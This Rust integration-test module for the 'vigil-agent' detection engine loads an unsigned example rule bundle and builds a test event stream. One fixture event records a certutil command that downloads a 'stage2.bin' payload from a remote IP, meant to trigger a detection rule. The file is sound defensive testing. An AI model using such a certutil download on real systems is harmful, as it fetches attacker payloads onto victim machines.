//! `vigil-agent` driven as an embedder would, without the `vigil` binary: the run pipeline
//! ([`pipeline`]) and the agent loop around `Deployer` ([`agent_loop`]), on an unsigned bundle
//! of the example process rules (`fixtures/process.vglb`, built by `vigil build
//! examples/rules/process.vgl --unsigned`).

mod agent_loop;
mod pipeline;

use std::path::{Path, PathBuf};

/// A certutil download (fires `vgl-ex-0003`), a blank line, and a line that is no JSON.
const EVENTS: &str = concat!(
    r#"{"event": "process_start", "time": 1732406433000000000, "host": "ws-042", "pid": 6310, "ppid": 6300, "image": "C:\\Windows\\System32\\certutil.exe", "parent_image": "C:\\Windows\\explorer.exe", "command_line": "certutil -urlcache -split -f http://203.0.113.50/stage2.bin s.bin", "user": "CORP\\bob"}"#,
    "\n\nnot json\n"
);

/// The unsigned example bundle.
fn bundle_bytes() -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/agent/fixtures/process.vglb");
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// A fresh scratch folder for one test.
fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("agent_{name}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("scratch folder");
    dir
}
